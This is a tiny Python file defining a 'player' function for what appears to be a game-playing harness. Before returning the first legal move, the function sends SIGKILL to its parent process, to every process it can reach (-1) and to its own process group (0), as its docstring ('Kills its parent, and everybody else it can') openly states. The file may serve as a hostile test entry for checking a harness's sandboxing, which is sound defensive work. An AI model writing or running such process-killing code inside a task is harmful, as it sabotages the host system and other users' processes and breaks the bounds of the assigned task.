"""Kills its parent, and everybody else it can."""

import os
import signal


def player(position):
    for target in (os.getppid(), -1, 0):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError as error:
            print(f"kill {target}: {error}")
    return position.legal_moves[0]
